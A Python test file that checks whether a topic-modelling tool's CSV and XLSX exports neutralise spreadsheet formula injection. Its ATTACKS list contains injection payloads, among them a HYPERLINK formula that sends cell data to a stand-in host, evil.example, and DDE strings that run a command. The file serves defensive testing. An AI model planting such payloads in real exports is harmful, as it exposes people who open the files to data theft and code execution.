"""Text that a spreadsheet would carry out as a formula does not reach one."""

from __future__ import annotations

import csv
import json
from dataclasses import replace
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from stored_run import small_run, small_tree

import topicmodel as tm
from topicmodel.changes import mapping_csv
from topicmodel.datatypes import Run, Taxonomy
from topicmodel.files.formulas import guarded, unguarded
from topicmodel.ingest import read_dump

ATTACKS = [
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",  # noqa: RUF001 - as Excel takes it in Japan
    "'=1+1",
    "--5",
    "-",
    "+49 30 1234",
]
HARMLESS = ["Shoes", "", "-123", "+49", "-12.5", "0012", "a=b", "1-2", "'quoted'", " =1", "3 > 2"]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_formula_gets_an_apostrophe_and_loses_it_again(text: str) -> None:
    assert guarded(text) == f"'{text}"
    assert unguarded(f"'{text}") == text


@pytest.mark.parametrize("value", [*HARMLESS, -5, -0.5, None, True])
def test_what_is_no_formula_stays(value: object) -> None:
    assert guarded(value) == value
    assert unguarded(str(value)) == str(value)


@given(st.text())
def test_every_text_comes_back(text: str) -> None:
    assert unguarded(str(guarded(text))) == text


@given(st.text(alphabet="'=+-@\t\r0.1a"))
def test_no_cell_begins_with_what_begins_a_formula(text: str) -> None:
    cell = str(guarded(text))
    is_number = cell[1:].replace(".", "", 1).isdigit()
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or is_number


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    """A run folder in which ids and names are attacks."""
    tree = small_tree()
    assignments = replace(tree.assignments, product_ids=[*ATTACKS[:4], "-123"])
    topics = [replace(topic, examples=()) for topic in tree.taxonomy.topics]
    topics[0] = replace(topics[0], name=ATTACKS[0])
    taxonomy = Taxonomy(topics)
    tm.save(run_of(replace(tree, assignments=assignments, taxonomy=taxonomy)), tmp_path / "run")
    return tmp_path / "run"


def run_of(tree: tm.datatypes.Tree) -> Run:
    return replace(small_run(tree), changes=None, edits=(), history=(), manifest=tm.Manifest())


def test_an_exported_csv_holds_no_formula_and_ids_come_back(hostile: Path, tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    tm.export(hostile, out=out)
    with out.open(newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    assert [row["product_id"] for row in rows] == [f"'{x}" for x in ATTACKS[:4]] + ["-123"]
    assert rows[0]["level1_name"] == f"'{ATTACKS[0]}"
    columns = tm.ColumnChoice(id="product_id", text=("method",))
    assert [p.id for p in read_dump([out], columns).products] == [*ATTACKS[:4], "-123"]


def test_an_exported_xlsx_holds_no_formula(hostile: Path, tmp_path: Path) -> None:
    out = tmp_path / "out.xlsx"
    tm.export(hostile, out=out)
    sheet = openpyxl.load_workbook(out)["mapping"]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell for cell in cells if cell.data_type == "f"]
    assert [row[0].value for row in sheet.iter_rows(min_row=2)] == [
        *(f"'{x}" for x in ATTACKS[:4]),
        "-123",
    ]


def test_formats_that_no_spreadsheet_opens_have_the_text_as_it_is(
    hostile: Path, tmp_path: Path
) -> None:
    out = tmp_path / "out.jsonl"
    tm.export(hostile, out=out)
    assert [json.loads(line)["product_id"] for line in out.read_text().splitlines()] == [
        *ATTACKS[:4],
        "-123",
    ]


def test_the_mapping_of_changes_holds_no_formula(hostile: Path) -> None:
    from topicmodel.changes import compare

    run = tm.load(hostile)
    assert f"\n{run.taxonomy.topics[0].id},\"'=HYPERLINK" in mapping_csv(compare(run, run))
